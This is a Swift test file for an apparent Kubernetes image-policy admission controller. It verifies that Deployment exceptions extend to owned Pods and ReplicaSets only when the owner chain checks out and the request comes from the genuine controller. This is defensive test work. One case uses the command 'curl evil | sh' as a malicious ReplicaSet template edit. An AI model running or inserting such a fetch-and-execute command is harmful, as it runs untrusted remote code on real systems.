import Foundation
import SignetAdmission
import SignetKube
import SignetPolicy
import SignetRegistry
import SignetTestSupport
import Testing
@testable import SignetCLI

/// Issue 15, item 3: a PolicyException for a controller (`kinds: [Deployment]`) exempts the
/// ReplicaSets and Pods the controller creates, but only when the owner chain the object claims,
/// read through the API (here the API server double), really leads to the covered Deployment,
/// and only for images that Deployment's template names. A forged owner reference gets nothing.
struct OwnerChainExceptionTests {
    static let now = KubernetesTime.parse("2026-11-22T10:00:00Z")!

    static let policies = """
        apiVersion: signet.dev/v1alpha1
        kind: ClusterImagePolicy
        metadata:
          name: deny-untrusted
        spec:
          images:
            - glob: "ghcr.io/acme/**"
          authorities:
            - static:
                action: fail
        ---
        apiVersion: signet.dev/v1alpha1
        kind: PolicyException
        metadata:
          name: legacy-web
          namespace: shop
          creationTimestamp: "2026-11-20T10:00:00Z"
        spec:
          policies: [deny-untrusted]
          kinds: [Deployment]
          names: [web]
          reason: legacy build, signing lands next sprint
          approvedBy: security@example.com
          validUntil: "2026-12-01T00:00:00Z"
        """

    /// An `ownerReferences` entry.
    struct OwnerClaim: Sendable {
        var kind: String
        var name: String
        var uid: String
        var apiVersion = "apps/v1"
        var controller = true

        var json: [String: Any] {
            ["apiVersion": apiVersion, "kind": kind, "name": name, "uid": uid, "controller": controller, "blockOwnerDeletion": true]
        }
    }

    static func owner(_ kind: String, _ name: String, uid: String, apiVersion: String = "apps/v1", controller: Bool = true) -> OwnerClaim {
        OwnerClaim(kind: kind, name: name, uid: uid, apiVersion: apiVersion, controller: controller)
    }

    /// A controller whose template runs `image` and mounts `volumeImage` as an image volume.
    static func controller(
        _ kind: String, _ name: String, uid: String, image: String, owner: OwnerClaim? = nil, apiVersion: String = "apps/v1",
        volumeImage: String = "ghcr.io/acme/models:v1"
    ) -> [String: Any] {
        var metadata: [String: Any] = ["name": name, "namespace": "shop", "uid": uid]
        if let owner { metadata["ownerReferences"] = [owner.json] }
        let volumes: [[String: Any]] = [["name": "cache", "emptyDir": [:] as [String: Any]], ["name": "models", "image": ["reference": volumeImage]]]
        return ["apiVersion": apiVersion, "kind": kind, "metadata": metadata,
                "spec": ["template": ["spec": ["containers": [["name": "app", "image": image]], "volumes": volumes] as [String: Any]]]]
    }

    /// The cluster: Deployment `web` (covered) with ReplicaSet `web-5d4f`, Deployment `api`
    /// (not covered) with ReplicaSet `api-77`.
    static func cluster() async throws -> KubernetesAPIServerDouble {
        let server = try await KubernetesAPIServerDouble.start()
        try await offThePool {
            try server.apply("deployments", controller("Deployment", "web", uid: "uid-deploy-web", image: "ghcr.io/acme/web:v1"))
            try server.apply("replicasets", controller(
                "ReplicaSet", "web-5d4f", uid: "uid-rs-web", image: "ghcr.io/acme/web:v1",
                owner: owner("Deployment", "web", uid: "uid-deploy-web")))
            try server.apply("deployments", controller("Deployment", "api", uid: "uid-deploy-api", image: "ghcr.io/acme/web:v1"))
            try server.apply("replicasets", controller(
                "ReplicaSet", "api-77", uid: "uid-rs-api", image: "ghcr.io/acme/web:v1",
                owner: owner("Deployment", "api", uid: "uid-deploy-api")))
        }
        return server
    }

    static func responder(_ server: KubernetesAPIServerDouble, resolving: Bool = true) throws -> AdmissionResponder {
        let client = try KubernetesClient(configuration: KubernetesClientConfiguration(
            serverURL: server.url, tokenFile: server.tokenFile, caFile: server.pki.caFile))
        let set = try PolicyLoader().load(files: [PolicySourceFile(name: "p.yaml", bytes: Array(Self.policies.utf8))])
        var responder = AdmissionResponder(evaluator: PolicyEvaluator(policies: set, exemptions: ExemptionConfiguration(clock: .fixed(now))))
        if resolving { responder.ownerChainResolver = KubernetesOwnerChainResolver(client: client, cacheLifetime: .zero) }
        return responder
    }

    /// A review of a `kind` object in `shop` claiming `owner`, sent by `user` (default: the
    /// controller loop that makes objects for an owner of that kind).
    static func review(
        kind: String = "Pod", image: String = "ghcr.io/acme/web:v1", volumeImage: String? = nil, owner: OwnerClaim?, user: String? = nil
    ) throws -> [UInt8] {
        var metadata: [String: Any] = ["generateName": "web-5d4f-", "namespace": "shop"]
        if let owner { metadata["ownerReferences"] = [owner.json] }
        var podSpec: [String: Any] = ["containers": [["name": "app", "image": image]]]
        if let volumeImage { podSpec["volumes"] = [["name": "models", "image": ["reference": volumeImage]]] }
        let object: [String: Any] = kind == "Pod"
            ? ["apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": podSpec]
            : ["apiVersion": "apps/v1", "kind": kind, "metadata": metadata, "spec": ["template": ["spec": podSpec]]]
        let group = kind == "Pod" ? "" : "apps"
        let review: [String: Any] = [
            "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
            "request": [
                "uid": "u-1", "kind": ["group": group, "version": "v1", "kind": kind],
                "resource": ["group": group, "version": "v1", "resource": kind.lowercased() + "s"],
                "namespace": "shop", "operation": "CREATE",
                "userInfo": ["username": user ?? ControllerReference.controllerUsers[owner?.kind ?? "ReplicaSet"] ?? "nobody"],
                "object": object,
            ] as [String: Any],
        ]
        return Array(try JSONSerialization.data(withJSONObject: review))
    }

    static func decide(_ responder: AdmissionResponder, _ body: [UInt8]) async -> (allowed: Bool, text: String) {
        let result = await responder.respond(to: body, deadline: .now + .seconds(30))
        let text = String(decoding: result.body, as: UTF8.self)
        return (text.contains(#""allowed":true"#), text)
    }

    static let webReplicaSet = owner("ReplicaSet", "web-5d4f", uid: "uid-rs-web")

    @Test func podsAndReplicaSetsOfTheCoveredDeploymentAreExempt() async throws {
        let server = try await Self.cluster()
        defer { server.stop() }
        let responder = try Self.responder(server)

        let pod = await Self.decide(responder, try Self.review(owner: Self.webReplicaSet))
        #expect(pod.allowed, "\(pod.text)")
        #expect(pod.text.contains("PolicyException \\\"shop/legacy-web\\\""), "\(pod.text)")
        let pinned = await Self.decide(responder, try Self.review(
            image: "ghcr.io/acme/web:v1@sha256:" + String(repeating: "a", count: 64), owner: Self.webReplicaSet))
        #expect(!pinned.allowed, "a digest could be any image of the repository, not what the template's tag vouches for: \(pinned.text)")
        let replicaSet = await Self.decide(responder, try Self.review(
            kind: "ReplicaSet", owner: Self.owner("Deployment", "web", uid: "uid-deploy-web")))
        #expect(replicaSet.allowed, "\(replicaSet.text)")

        let requests = try await offThePool { try server.requests() }
        #expect(requests.contains("GET /apis/apps/v1/namespaces/shop/replicasets/web-5d4f"))
        #expect(requests.contains("GET /apis/apps/v1/namespaces/shop/deployments/web"))
    }

    /// An owner reference is no secret: whoever may read the ReplicaSet can copy its UID into a
    /// Pod of their own, running the template's image with any command, service account or
    /// volume. Only the controller that makes such objects is believed: the ReplicaSet's loop
    /// (its service account), kube-controller-manager itself, or a user named as an owner
    /// reference writer; a scan, which decides Pods that already run, follows the chain.
    @Test func aRealOwnerReferenceCopiedByAnotherUserExemptsNothing() async throws {
        let server = try await Self.cluster()
        defer { server.stop() }
        var responder = try Self.responder(server)
        let copied = try Self.review(owner: Self.webReplicaSet, user: "alice")
        let pod = await Self.decide(responder, copied)
        #expect(!pod.allowed, "\(pod.text)")
        #expect(pod.text.contains(
            "exceptions for the controllers of this Pod were not applied: it claims ReplicaSet \\\"web-5d4f\\\" as its controller, but was sent by alice, "
                + "not by the controller that makes such objects (system:serviceaccount:kube-system:replicaset-controller or system:kube-controller-manager)"),
            "\(pod.text)")
        let requests = try await offThePool { try server.requests() }
        #expect(!requests.contains { $0.contains("/replicasets/") }, "the chain of a claim not believed is not read: \(requests)")
        // The Deployment's loop makes ReplicaSets, not Pods.
        #expect(!(await Self.decide(responder, try Self.review(
            owner: Self.webReplicaSet, user: "system:serviceaccount:kube-system:deployment-controller"))).allowed)

        #expect((await Self.decide(responder, try Self.review(owner: Self.webReplicaSet, user: "system:kube-controller-manager"))).allowed)
        responder.ownerReferenceWriters = ["alice"]
        #expect((await Self.decide(responder, copied)).allowed)
        responder.ownerReferenceWriters = []
        responder.source = .scan
        #expect((await Self.decide(responder, copied)).allowed, "a running Pod's owner chain is followed whoever made it")
    }

    /// An UPDATE that only writes an owner reference into a ReplicaSet changes no image, but
    /// what exempts its images (and the Pods the ReplicaSet controller then makes from it):
    /// it is decided whole, and the claim is believed only from the Deployment controller.
    @Test func anUpdateThatGivesAReplicaSetAControllerIsDecidedWhole() async throws {
        let server = try await Self.cluster()
        defer { server.stop() }
        let responder = try Self.responder(server)
        func update(user: String, owner: OwnerClaim?, oldOwner: OwnerClaim? = nil, command: [String]? = nil) throws -> [UInt8] {
            func replicaSet(_ owner: OwnerClaim?, command: [String]? = nil) -> [String: Any] {
                var metadata: [String: Any] = ["name": "mine", "namespace": "shop", "uid": "uid-rs-mine"]
                if let owner { metadata["ownerReferences"] = [owner.json] }
                var container: [String: Any] = ["name": "app", "image": "ghcr.io/acme/web:v1"]
                if let command { container["command"] = command }
                return ["apiVersion": "apps/v1", "kind": "ReplicaSet", "metadata": metadata,
                        "spec": ["replicas": 3, "template": ["spec": ["containers": [container]]]] as [String: Any]]
            }
            let review: [String: Any] = [
                "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
                "request": [
                    "uid": "u-2", "kind": ["group": "apps", "version": "v1", "kind": "ReplicaSet"],
                    "resource": ["group": "apps", "version": "v1", "resource": "replicasets"],
                    "namespace": "shop", "name": "mine", "operation": "UPDATE", "userInfo": ["username": user],
                    "object": replicaSet(owner, command: command), "oldObject": replicaSet(oldOwner),
                ] as [String: Any],
            ]
            return Array(try JSONSerialization.data(withJSONObject: review))
        }
        let web = Self.owner("Deployment", "web", uid: "uid-deploy-web")
        let adopted = await Self.decide(responder, try update(user: "alice", owner: web))
        #expect(!adopted.allowed, "an owner reference written by a user borrowed the Deployment's exception: \(adopted.text)")
        #expect(adopted.text.contains("not by the controller that makes such objects"), "\(adopted.text)")
        #expect((await Self.decide(responder, try update(user: "system:serviceaccount:kube-system:deployment-controller", owner: web))).allowed,
                "the Deployment controller adopting the ReplicaSet")
        // Nothing about the controller changes (a label, a scale): the images are not decided again.
        #expect((await Self.decide(responder, try update(user: "alice", owner: web, oldOwner: web))).allowed)
        #expect((await Self.decide(responder, try update(user: "alice", owner: nil, oldOwner: web))).allowed, "orphaning changes no image")
        // Another command in an owned ReplicaSet's template, the image unchanged: the Pods made
        // from it would run it under the Deployment's exception. Decided whole for anyone but
        // the controller that makes ReplicaSets.
        let edited = await Self.decide(responder, try update(user: "alice", owner: web, oldOwner: web, command: ["/bin/sh", "-c", "curl evil | sh"]))
        #expect(!edited.allowed, "a template edit by a user borrowed the Deployment's exception: \(edited.text)")
        #expect((await Self.decide(responder, try update(
            user: "system:serviceaccount:kube-system:deployment-controller", owner: web, oldOwner: web, command: ["/app"]))).allowed)
        // Orphaned first, then edited (to be adopted back later): the same.
        #expect(!(await Self.decide(responder, try update(user: "alice", owner: nil, oldOwner: nil, command: ["/bin/sh"]))).allowed,
                "an orphaned ReplicaSet's template edited, to be adopted back")
        // An owner the chain never follows (an operator's kind): its exceptions reach nothing, so
        // its template edits are judged as any update.
        let rollout = Self.owner("Rollout", "web", uid: "uid-rollout", apiVersion: "argoproj.io/v1alpha1")
        #expect((await Self.decide(responder, try update(user: "argo-rollouts", owner: rollout, oldOwner: rollout, command: ["/app"]))).allowed)
    }

    /// A review not known to come from the API server names any user it likes (the controller's
    /// own) and creates nothing: its owner claims are not followed, so it makes signet read no
    /// object through the API server, for `/validate` nor `/mutate`.
    @Test func aReviewNotFromTheAPIServerReadsNoOwner() async throws {
        let server = try await Self.cluster()
        defer { server.stop() }
        let responder = try Self.responder(server)
        let forged = AdmissionClient(address: "10.244.1.7:40112", fromAPIServer: false)
        let body = try Self.review(owner: Self.webReplicaSet)
        let validated = await responder.respond(to: body, deadline: .now + .seconds(30), client: forged)
        let text = String(decoding: validated.body, as: UTF8.self)
        #expect(!text.contains(#""allowed":true"#), "\(text)")
        #expect(text.contains("exceptions for the controllers of this Pod were not applied: the review is not known to come from the API server "
            + "(it came from 10.244.1.7:40112)"), "\(text)")
        _ = await responder.respondToMutation(body, deadline: .now + .seconds(30), client: forged)
        let requests = try await offThePool { try server.requests() }
        #expect(!requests.contains { $0.contains("/replicasets/") || $0.contains("/deployments/") }, "\(requests)")
        // The same review from the API server follows the chain.
        let real = await responder.respond(to: body, deadline: .now + .seconds(30), client: AdmissionClient(address: "10.0.0.2:6000"))
        #expect(String(decoding: real.body, as: UTF8.self).contains(#""allowed":true"#))
    }

    @Test func withoutTheOwnerLookupThePodIsNotExempt() async throws {
        let server = try await Self.cluster()
        defer { server.stop() }
        let pod = await Self.decide(try Self.responder(server, resolving: false), try Self.review(owner: Self.webReplicaSet))
        #expect(!pod.allowed)
        #expect(pod.text.contains("deny-untrusted"), "\(pod.text)")
    }

    @Test(arguments: [
        ("a forged UID", owner("ReplicaSet", "web-5d4f", uid: "uid-made-up")),
        ("a ReplicaSet that does not exist", owner("ReplicaSet", "web-ghost", uid: "uid-rs-web")),
        ("a chain that leads to another Deployment", owner("ReplicaSet", "api-77", uid: "uid-rs-api")),
        ("a Deployment of another API group", owner("Deployment", "web", uid: "uid-deploy-web", apiVersion: "evil.example/v1")),
        ("an owner that is not the controller", owner("ReplicaSet", "web-5d4f", uid: "uid-rs-web", controller: false)),
    ])
    func aClaimedOwnerThatDoesNotCheckOutExemptsNothing(_ case: String, _ claimed: OwnerClaim) async throws {
        let server = try await Self.cluster()
        defer { server.stop() }
        let pod = await Self.decide(try Self.responder(server), try Self.review(owner: claimed))
        #expect(!pod.allowed, "\(`case`): \(pod.text)")
        if `case` == "a forged UID" {
            #expect(pod.text.contains("exceptions for the controllers of this Pod were not applied: ReplicaSet shop/web-5d4f has UID uid-rs-web, not uid-made-up"), "\(pod.text)")
        }
        #expect(pod.text.contains("ghcr.io/acme/web:v1") && pod.text.contains("deny-untrusted"), "\(pod.text)")
        let requests = try await offThePool { try server.requests() }
        #expect(!requests.contains { $0.contains("evil.example") })
    }

    @Test func anImageTheDeploymentDoesNotRunIsNotExempt() async throws {
        let server = try await Self.cluster()
        defer { server.stop() }
        let pod = await Self.decide(try Self.responder(server), try Self.review(image: "ghcr.io/acme/web:evil", owner: Self.webReplicaSet))
        #expect(!pod.allowed, "the real ReplicaSet's Deployment runs web:v1 only: \(pod.text)")
    }

    /// An image volume the Deployment's template mounts is exempt with it; another is not.
    @Test func imageVolumesOfTheTemplateAreExemptAndOthersAreNot() async throws {
        let server = try await Self.cluster()
        defer { server.stop() }
        let responder = try Self.responder(server)
        let pod = await Self.decide(responder, try Self.review(volumeImage: "ghcr.io/acme/models:v1", owner: Self.webReplicaSet))
        #expect(pod.allowed, "\(pod.text)")
        let other = await Self.decide(responder, try Self.review(volumeImage: "ghcr.io/acme/models:evil", owner: Self.webReplicaSet))
        #expect(!other.allowed, "the Deployment mounts models:v1 only: \(other.text)")
        #expect(other.text.contains(#"image \"ghcr.io/acme/models:evil\" (image volume \"models\")"#), "\(other.text)")
    }

    /// Verifies every image as one digest.
    struct ReleaseSigned: AuthorityVerifier {
        static let digest = try! ImageDigest(parsing: "sha256:" + String(repeating: "d", count: 64))
        func verify(image: ImageReference, authority: CompiledAuthority, policy: CompiledPolicy, deadline: ContinuousClock.Instant) async throws -> AuthorityVerdict {
            AuthorityVerdict(passed: true, authority: authority.name, reason: "signed by the release workflow", digest: Self.digest)
        }
    }

    /// The Deployment's exception admits its Pods' images as its template names them, so
    /// `/mutate` must find the exception through the owner chain too and leave those images as
    /// written: pinned, they would no longer be the template's image, and `/validate` would deny
    /// them. A Pod whose owner does not check out is pinned as any other (its policy verifies the
    /// image, and `requireDigest` fails it until it is pinned).
    @Test func mutateLeavesImagesTheOwnersExceptionAdmitsAsWritten() async throws {
        let server = try await Self.cluster()
        defer { server.stop() }
        let client = try KubernetesClient(configuration: KubernetesClientConfiguration(
            serverURL: server.url, tokenFile: server.tokenFile, caFile: server.pki.caFile))
        let policies = """
            apiVersion: signet.dev/v1alpha1
            kind: ClusterImagePolicy
            metadata:
              name: pinned-only
            spec:
              images:
                - glob: "ghcr.io/acme/**"
              requireDigest: true
              authorities:
                - name: release
                  keyless:
                    identities:
                      - issuer: "https://token.actions.githubusercontent.com"
                        subject: "https://github.com/acme/web/.github/workflows/release.yml@refs/heads/main"
            """ + "\n---\n" + Self.policies.components(separatedBy: "---\n")[1].replacingOccurrences(of: "deny-untrusted", with: "pinned-only")
        let set = try PolicyLoader().load(files: [PolicySourceFile(name: "p.yaml", bytes: Array(policies.utf8))])
        var responder = AdmissionResponder(evaluator: PolicyEvaluator(
            policies: set, verifier: ReleaseSigned(), exemptions: ExemptionConfiguration(clock: .fixed(Self.now))))
        responder.ownerChainResolver = KubernetesOwnerChainResolver(client: client, cacheLifetime: .zero)
        responder.requirePinnedDigests = true

        func mutate(_ body: [UInt8]) async -> String {
            String(decoding: await responder.respondToMutation(body, deadline: .now + .seconds(30)).body, as: UTF8.self)
        }
        let owned = try Self.review(owner: Self.webReplicaSet)
        let mutated = await mutate(owned)
        #expect(mutated.contains(#""allowed":true"#) && !mutated.contains("patch"), "left as the template names it: \(mutated)")
        let validated = await Self.decide(responder, owned)
        #expect(validated.allowed, "\(validated.text)")
        #expect(validated.text.contains("PolicyException \\\"shop/legacy-web\\\""), "\(validated.text)")

        // An owner that does not check out: no exception, so the verified digest is pinned.
        let forged = try Self.review(owner: Self.owner("ReplicaSet", "web-5d4f", uid: "uid-made-up"))
        let pinned = await mutate(forged)
        #expect(pinned.contains("patch"), "\(pinned)")
        #expect(!(await Self.decide(responder, forged)).allowed)
        // Nor does the real owner reference in a Pod another user sends.
        let copied = try Self.review(owner: Self.webReplicaSet, user: "alice")
        let copiedPinned = await mutate(copied)
        #expect(copiedPinned.contains("patch"), "\(copiedPinned)")
        #expect(!(await Self.decide(responder, copied)).allowed)
    }

    @Test func templateImagesMatchByTagOrPinnedDigest() throws {
        let digest = "sha256:" + String(repeating: "b", count: 64)
        func owner(_ image: String) throws -> VerifiedOwner {
            VerifiedOwner(kind: "Deployment", name: "web", templateImages: [try ImageReference(parsing: image)])
        }
        func names(_ template: String, _ image: String) throws -> Bool {
            try owner(template).templateNames(try ImageReference(parsing: image))
        }
        #expect(try names("ghcr.io/acme/web:v1", "GHCR.IO:443/acme/web:v1"))
        #expect(try !names("ghcr.io/acme/web:v1", "ghcr.io/acme/web:v1@\(digest)"))
        #expect(try !names("ghcr.io/acme/web:v1", "ghcr.io/acme/web:v2"))
        #expect(try !names("ghcr.io/acme/web:v1", "ghcr.io/acme/web@\(digest)"))
        #expect(try !names("ghcr.io/acme/web:v1", "ghcr.io/acme/api:v1"))
        #expect(try names("ghcr.io/acme/web@\(digest)", "ghcr.io/acme/web:any@\(digest)"))
        #expect(try !names("ghcr.io/acme/web:v1@\(digest)", "ghcr.io/acme/web:v1"))
        #expect(try names("nginx", "docker.io/library/nginx:latest"))
    }
}
